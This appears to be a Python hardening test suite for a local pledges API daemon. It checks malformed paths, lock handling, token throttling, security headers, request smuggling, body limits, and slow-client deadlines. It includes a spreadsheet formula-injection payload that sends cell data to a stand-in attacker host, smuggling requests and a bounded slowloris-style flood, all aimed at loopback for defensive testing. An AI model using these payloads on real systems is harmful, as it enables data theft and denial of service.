"""Hardening, as an outsider would attack the daemon on loopback: one daemon
per port; malformed paths and queries (invalid UTF-8, %00) get a 400
problem, never a 5xx, and the access log stays valid JSON; a database held
by another process gives 503 with Retry-After; a token's bucket cannot be
drained with a look-alike token; CSV cells that a spreadsheet would run are
neutralised; security headers; request smuggling shapes and a missing Host
are 400; a chunked body over the limit is refused as soon as it passes it;
trickled headers and bodies are cut by their deadlines; and 1,000 slow
connections from nine addresses do not lock out a tenth. Every loop here is
bounded in time and count, and every server listens on 127.0.0.1 (the
slow clients bind 127.0.0.2 to .10)."""
import csv
import io
import json
import os
import resource
import selectors
import socket
import subprocess
import sys
import threading
import time

from harness import Daemon, Tap, WriteLockHolder, finish, run_cli

tap = Tap()
binary = sys.argv[1]
d = Daemon(binary, "--max-body", "4096", "--token-rate-limit", "2")


def raw(port, data, timeout=5.0):
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    try:
        s.sendall(data)
        out = b""
        while True:
            try:
                chunk = s.recv(65536)
            except (socket.timeout, ConnectionResetError):
                break
            if not chunk:
                break
            out += chunk
            if b"\r\n\r\n" in out:
                head, _, body = out.partition(b"\r\n\r\n")
                length = [int(l.split(b":")[1]) for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")]
                if length and len(body) >= length[0]:
                    break
        return out
    finally:
        s.close()


def parse(resp):
    head, _, body = resp.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    status = int(lines[0].split()[1]) if lines and len(lines[0].split()) > 1 else 0
    headers = {}
    for l in lines[1:]:
        k, _, v = l.partition(b":")
        headers[k.strip().lower().decode()] = v.strip().decode("latin-1")
    return status, headers, body


def trickle(s, chunk, limit):
    """Sends chunk on s every half second for at most limit seconds, until
    the server closes the connection. Closes s; returns (cut, seconds)."""
    t0 = time.time()
    cut = False
    s.settimeout(0.5)
    while not cut and time.time() - t0 < limit:
        try:
            s.sendall(chunk)
            cut = s.recv(100) == b""
        except socket.timeout:
            pass
        except OSError:
            cut = True
    elapsed = time.time() - t0
    s.close()
    return cut, elapsed


# --- one daemon per port -------------------------------------------------------------------
second_db = os.path.join(d.dir, "second.db")  # a file either way: it must not appear
t0 = time.time()
r = run_cli(binary, "serve", "--port", str(d.port), "--bind", "127.0.0.1", "--db", second_db, timeout=10)
tap.check(r.returncode != 0 and "port %d is already in use on 127.0.0.1" % d.port in r.stderr
          and time.time() - t0 < 3, "a second daemon on a port in use exits at once, saying so", r)
tap.check(not os.path.exists(second_db), "and it touched no database")
# --- malformed paths and queries: 400, never 5xx ------------------------------------------
tok = "Bearer " + d.token
cases = [("GET", "/v1/pledges/%ff"), ("GET", "/%ff%fe"), ("GET", "/v1/companies/%ed%a0%80"),
         ("DELETE", "/v1/pledges/%ff"), ("PATCH", "/v1/companies/%ed%a0%80"), ("FOO", "/v1/pledges/%ff"),
         ("GET", "/v1/pledges/1%00"), ("GET", "/v1/pledges?limit=1%00garbage"), ("GET", "/v1/companies?q=%00"),
         ("GET", "/v1/pledges?%ff=1"), ("GET", "/v1/pledges?kind=%c3%28")]
for method, path in cases:
    extra = b"Authorization: %s\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}" % tok.encode() \
        if method in ("DELETE", "PATCH", "FOO") else b"\r\n"
    resp = raw(d.port, b"%s %s HTTP/1.1\r\nHost: x\r\n%s" % (method.encode(), path.encode(), extra))
    status, headers, body = parse(resp)
    try:
        doc = json.loads(body.decode("utf-8"))
    except (ValueError, UnicodeDecodeError):
        doc = None
    tap.check(status in (400, 404) and headers.get("content-type") == "application/problem+json" and doc
              and doc.get("status") == status, "%s %s answers a 400 problem document (%d)" % (method, path, status),
              resp[:400])
resp = parse(raw(d.port, b"GET /v1/pledges?%ff=1 HTTP/1.1\r\nHost: x\r\n\r\n"))
doc = json.loads(resp[2])
tap.check(doc["errors"][0]["field"] == "\\xff" and "name" in doc["errors"][0]["message"],
          "a query parameter whose name is not UTF-8 is named, escaped", doc)
doc = json.loads(parse(raw(d.port, b"GET /v1/pledges/1%00 HTTP/1.1\r\nHost: x\r\n\r\n"))[2])
tap.check(doc["type"] == "/problems/bad-path" and "%00" in doc["detail"], "%00 in a path segment is 400, not pledge 1", doc)
doc = json.loads(parse(raw(d.port, b"GET /v1/pledges?limit=1%00garbage HTTP/1.1\r\nHost: x\r\n\r\n"))[2])
tap.check(doc["status"] == 400 and doc["errors"][0]["field"] == "limit", "%00 in a query value is 400 naming it", doc)
r = d.get("/v1/rates/XYZ/2024-02-30")
tap.check(r.status == 400 and r.json["type"] == "/problems/bad-path" and r.json["title"] == "Invalid path"
          and sorted(e["field"] for e in r.json["errors"]) == ["currency", "date"] and "query" not in r.json["detail"],
          "errors in path parameters say 'path'", r.json)
lines = d.log_after_flush().splitlines()
bad = []
for line in lines:
    try:
        json.loads(line)
        line.encode("utf-8")
    except ValueError:
        bad.append(line)
tap.check(lines and not bad and any("\\\\xff" in l for l in lines), "every access log line is one valid JSON object, "
          "bad bytes escaped", bad[:3])

# --- the database held by another process: 503 with Retry-After ---------------------------
holder = WriteLockHolder(d.db)
t0 = time.time()
r = d.request("POST", "/v1/companies", body={"name": "Blocked Co"})
holder.release()
tap.check(r.status == 503 and r.header("Retry-After") and r.json["type"] == "/problems/unavailable",
          "a write that meets another process's lock past the busy timeout is 503 with Retry-After (%.1f s)"
          % (time.time() - t0), r)
r = d.request("POST", "/v1/companies", body={"name": "Blocked Co"})
tap.eq(r.status, 201, "the same write succeeds once the lock is gone")

# --- a token's bucket cannot be drained by a look-alike ------------------------------------
key_id = d.token[4:12]
fake = "Bearer pld_" + key_id + "A" * 35
codes = [d.request("DELETE", "/v1/pledges/999999", auth=fake).status for _ in range(8)]
tap.check(set(codes) <= {401, 429} and 429 in codes, "failed authentications are throttled by address", codes)
r = d.request("POST", "/v1/companies", body={"name": "Still Mine"})
tap.eq(r.status, 201, "the real token still writes: its bucket was not touched by the look-alike")

# --- CSV cells a spreadsheet would run ------------------------------------------------------
time.sleep(1.1)
for name in ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1 dial", "-2 plus", "@SUM(A1)"]:
    r = d.request("POST", "/v1/companies", body={"name": name, "slug": "f%d" % (abs(hash(name)) % 100000)})
    time.sleep(0.6)
rows = list(csv.reader(io.StringIO(d.get("/v1/companies?format=csv&limit=500").body.decode())))
names = [row[1] for row in rows[1:]]
tap.check("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")" in names and "'+1 dial" in names
          and "'-2 plus" in names and "'@SUM(A1)" in names and "Still Mine" in names,
          "text cells starting with = + - @ get a leading apostrophe", names)
tap.check(all(not n.startswith(("=", "+", "-", "@")) for n in names), "no cell starts a formula", names)
stats = list(csv.reader(io.StringIO(d.get("/v1/stats/totals?group_by=kind&format=csv").body.decode())))
tap.check(all(not c.startswith("'") for row in stats[1:] for c in row[2:]), "numbers and money stay as they are", stats)

# --- headers --------------------------------------------------------------------------------
for path in ["/", "/v1/pledges", "/nothing", "/healthz", "/dashboard.js"]:
    r = d.get(path)
    tap.eq(r.header("X-Content-Type-Options"), "nosniff", "X-Content-Type-Options: nosniff on %s (%d)" % (path, r.status))
csp = d.get("/").header("Content-Security-Policy") or ""
script = [p.strip() for p in csp.split(";") if p.strip().startswith("script-src")]
tap.check(script and "unsafe-inline" not in script[0] and "frame-ancestors 'none'" in csp,
          "the dashboard's CSP allows no inline script and no framing", csp)
page = d.get("/").body.decode()
tap.check("<script>" not in page and '<script src="/dashboard.js"></script>' in page,
          "the page's script is a file of its own")
for path in ["/", "/v1/pledges", "/v1/stats/totals?group_by=kind", "/v1/companies"]:
    tap.check("Accept" in (d.get(path).header("Vary") or ""), "Vary: Accept on %s" % path)

# --- smuggling shapes and Host ---------------------------------------------------------------
resp = raw(d.port, b"POST /v1/companies HTTP/1.1\r\nHost: x\r\nAuthorization: " + tok.encode() +
           b"\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
           b"0\r\n\r\n")
status, headers, body = parse(resp)
tap.check(status == 400 and b"Content-Length" in body, "Content-Length with Transfer-Encoding is 400", resp[:300])
status, headers, body = parse(raw(d.port, b"GET /healthz HTTP/1.1\r\n\r\n"))
tap.check(status == 400 and b"Host" in body, "an HTTP/1.1 request without Host is 400", body)
status, _, _ = parse(raw(d.port, b"GET /healthz HTTP/1.0\r\n\r\n"))
tap.eq(status, 200, "HTTP/1.0 needs no Host")

# --- a chunked body over the limit: 413 as soon as it passes it ------------------------------
s = socket.create_connection(("127.0.0.1", d.port), timeout=5)
s.sendall(b"POST /v1/companies HTTP/1.1\r\nHost: x\r\nAuthorization: " + tok.encode() +
          b"\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
sent, answer, closed = 0, b"", False
s.setblocking(False)
deadline = time.time() + 10
while time.time() < deadline and sent < 8 * 1024 * 1024:
    try:
        sent += s.send(b"400\r\n" + b"a" * 1024 + b"\r\n") and 1031
    except BlockingIOError:
        time.sleep(0.01)
    except (BrokenPipeError, ConnectionResetError):
        closed = True
        break
    try:
        chunk = s.recv(65536)
        if chunk:
            answer += chunk
        else:
            closed = True
            break
    except BlockingIOError:
        pass
    except ConnectionResetError:
        closed = True
        break
    if b"\r\n\r\n" in answer and sent > 200000:
        break
s.setblocking(True)
s.settimeout(3)
try:
    while True:
        more = s.recv(65536)
        if not more:
            closed = True
            break
        answer += more
except (socket.timeout, ConnectionResetError, OSError):
    closed = closed or True
s.close()
tap.check(answer.startswith(b"HTTP/1.1 413") and b"too-large" in answer,
          "a chunked body over --max-body gets 413 before its end (%d bytes sent, no last chunk)" % sent, answer[:200])
tap.check(closed, "and the connection is then closed")

# --- deadlines for headers and bodies --------------------------------------------------------
finish_d = d
g = Daemon(binary, "--header-timeout", "2", "--body-min-rate", "1000", "--timeout", "60", token=True)
s = socket.create_connection(("127.0.0.1", g.port), timeout=10)
s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
# a header line every half second resets any idle timeout
cut, elapsed = trickle(s, b"X-Trickle: a\r\n", 8)
tap.check(cut and 1.5 < elapsed < 4, "headers trickled past --header-timeout 2 are cut (%.1f s)" % elapsed)
s = socket.create_connection(("127.0.0.1", g.port), timeout=10)
s.sendall(b"POST /v1/companies HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + g.token.encode() +
          b"\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{\"name\":")
cut, elapsed = trickle(s, b" ", 12)  # 2 bytes a second, far below 1000
tap.check(cut and elapsed < 6, "a body trickled below --body-min-rate is cut (%.1f s)" % elapsed)
# keep-alive: an idle connection between requests has the same header deadline
s = socket.create_connection(("127.0.0.1", g.port), timeout=10)
s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
first = s.recv(4096)
t0 = time.time()
s.settimeout(6)
try:
    rest = s.recv(100)
except socket.timeout:
    rest = None
tap.check(first.startswith(b"HTTP/1.1 200") and rest == b"" and time.time() - t0 < 4,
          "an idle keep-alive connection is closed after the header deadline (%.1f s)" % (time.time() - t0))
s.close()
g.stop()
g.cleanup()

# --- 1,000 slow connections from nine addresses; a tenth is served ---------------------------
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
a = Daemon(binary, "--header-timeout", "4", "--no-access-log", token=False)
sources = ["127.0.0.%d" % i for i in range(2, 11)]
sel = selectors.DefaultSelector()
conns = {}
opened = failed = reopened = 0
stop_at = time.time() + 25  # the attack lasts 25 s, bounded


def open_slow(src):
    global opened, failed
    try:
        c = socket.socket()
        c.bind((src, 0))
        c.setblocking(False)
        c.connect_ex(("127.0.0.1", a.port))
        conns[c] = [src, 0]
        sel.register(c, selectors.EVENT_READ)
        opened += 1
    except OSError:
        failed += 1


for i in range(1000):
    open_slow(sources[i % 9])
time.sleep(0.5)
for c in list(conns):
    try:
        c.send(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
    except OSError:
        pass
probes = []
last_trickle = time.time()
last_probe = 0
while time.time() < stop_at:
    for key, _ in sel.select(timeout=0.05):
        c = key.fileobj
        try:
            data = c.recv(4096)
        except OSError:
            data = b""
        if not data:  # closed by the server: the attacker comes straight back
            src = conns.pop(c)[0]
            sel.unregister(c)
            c.close()
            if reopened < 5000:
                reopened += 1
                open_slow(src)
    now = time.time()
    if now - last_trickle > 1.0:  # one header line a second on each connection
        for c in list(conns):
            try:
                if conns[c][1] == 0:
                    c.send(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
                    conns[c][1] = 1
                else:
                    c.send(b"X-Slow: 1\r\n")
            except OSError:
                pass
        last_trickle = now
    if now - last_probe > 0.5 and now > stop_at - 22:
        t = time.time()
        try:
            p = socket.create_connection(("127.0.0.1", a.port), timeout=1.0)
            p.settimeout(1.0)
            p.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            got = p.recv(100)
            p.close()
            probes.append((time.time() - t, got.startswith(b"HTTP/1.1 200")))
        except OSError:
            probes.append((time.time() - t, False))
        last_probe = time.time()
for c in list(conns):
    sel.unregister(c)
    c.close()
latencies = sorted(x for x, _ in probes)
tap.check(opened >= 1000 and len(probes) >= 30 and all(ok for _, ok in probes) and latencies[-1] < 1.0,
          "with 1,000 slow connections from 127.0.0.2-.10, every GET /healthz from 127.0.0.1 answers within 1 s "
          "(%d probes, median %.1f ms, max %.1f ms; %d connections reopened after the guard cut them)"
          % (len(probes), 1000 * latencies[len(latencies) // 2] if latencies else -1,
             1000 * latencies[-1] if latencies else -1, reopened),
          [p for p in probes if not p[1] or p[0] >= 1.0][:5])
tap.check(reopened >= 900, "the guard cut the slow connections and they came back (%d)" % reopened)
metrics = a.get("/metrics").body.decode()
cutline = [l for l in metrics.splitlines() if l.startswith("pledged_connections_cut_total ")]
tap.check(cutline and float(cutline[0].split()[1]) >= 900, "/metrics counts the connections cut", cutline)
rc = a.stop()
tap.eq(rc, 0, "the attacked daemon stops cleanly")
tap.check(a.sanitizer_report() is None, "no sanitizer report from the attacked daemon", a.log_text()[-3000:])
a.cleanup()

finish(tap, d)
